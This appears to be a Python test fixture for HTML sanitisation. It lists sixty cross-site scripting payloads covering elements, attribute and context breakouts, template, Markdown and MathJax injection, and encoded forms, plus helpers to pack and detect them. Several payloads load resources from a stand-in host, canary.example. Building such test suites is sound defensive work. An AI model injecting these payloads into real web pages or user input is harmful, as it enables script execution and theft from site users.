"""Sixty texts that run somewhere, if nobody stops them: each calls `xss(its number)` or asks the host CANARY for something.

They are of the kinds that have worked elsewhere: elements, attributes, addresses, what ends the block of data that a text lies in,
what templates, Markdown, MathJax and Plotly make of a text, and what only becomes markup once it has been cleaned or decoded.
"""

from __future__ import annotations

CANARY = "canary.example"

PAYLOADS: tuple[str, ...] = (
    # Elements.
    "<script>xss(1)</script>",
    f"<script src=//{CANARY}/2></script>",
    "<ScRiPt>xss(3)</sCrIpT >",
    "<script\t>xss(4)</script>",
    "<scr<script>ipt>xss(5)</scr</script>ipt>",
    "<img src=x onerror=xss(6)>",
    f"<img src=//{CANARY}/7>",
    '<img src="x`" `onerror=xss(8)>',
    "<svg onload=xss(9)>",
    "<svg><script>xss(10)</script></svg>",
    "<svg><animate onbegin=xss(11) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:xss(12)><text y=9>x</text></a>",
    "<svg><use href=data:image/svg+xml,<svg/onload=xss(13)>#x>",
    "<math><mi xlink:href=javascript:xss(14)>x</mi></math>",
    "<iframe srcdoc='<script>parent.xss(15)</script>'></iframe>",
    f"<iframe src=//{CANARY}/16></iframe>",
    "<object data=javascript:xss(17)></object>",
    f"<embed src=//{CANARY}/18>",
    "<body onload=xss(19)>",
    "<details open ontoggle=xss(20)>",
    "<video><source onerror=xss(21)></video>",
    "<input autofocus onfocus=xss(22)>",
    "<marquee onstart=xss(23)>",
    "<x contenteditable onblur=xss(24) tabindex=1 autofocus>",
    f"<link rel=stylesheet href=//{CANARY}/25>",
    f"<style>@import'//{CANARY}/26'</style>",
    f"<base href=//{CANARY}/27/>",
    f"<meta http-equiv=refresh content=0;//{CANARY}/28>",
    f"<form action=//{CANARY}/29><button>x</button></form>",
    "<template><script>xss(30)</script></template>",
    # Out of an attribute.
    '" onmouseover=xss(31) x="',
    "' onmouseover=xss(32) x='",
    '"><script>xss(33)</script>',
    "'><img src=x onerror=xss(34)>",
    '" autofocus onfocus="xss(35)',
    f'" style="background:url(//{CANARY}/36)',
    "`onmouseover=xss(37)`",
    "&quot; onmouseover=xss(38) &quot;",
    # Out of what a text lies in.
    "</script><script>xss(39)</script>",
    "--><script>xss(40)</script><!--",
    "]]><script>xss(41)</script>",
    "</title><script>xss(42)</script>",
    "</textarea><script>xss(43)</script>",
    "</style><script>xss(44)</script>",
    "</text></svg><script>xss(45)</script>",
    "';xss(46);//",
    '"};xss(47);//',
    "\u2028xss(48)//",
    "${xss(49)}",
    # What a program makes of a text.
    "{{constructor.constructor('xss(50)')()}}",
    "{% load static %}{{ 51|safe }}",
    "[x](javascript:xss(52))",
    f"![x](//{CANARY}/53)",
    "<javascript:xss(54)>",
    "$\\href{javascript:xss(55)}{x}$",
    "<a href='javascript:xss(56)'>x</a>",
    "<a href='java&#9;script:xss(57)'>x</a>",
    # What becomes markup later.
    "&lt;script&gt;xss(58)&lt;/script&gt;",
    "\uff1cscript\uff1exss(59)\uff1c/script\uff1e",
    "%3Cscript%3Exss(60)%3C/script%3E",
)


def fitting(length: int | None, start: int) -> str:
    """As many of them as a text of this length holds, beginning with one and going round; all where there is no length."""
    found = ""
    for number in range(len(PAYLOADS)):
        more = f"{found} {PAYLOADS[(start + number) % len(PAYLOADS)]}".strip()
        if length is None or len(more) <= length:
            found = more
    return found


def held(text: str) -> set[int]:
    """The places of those that a text holds."""
    return {number for number, payload in enumerate(PAYLOADS) if payload in text}
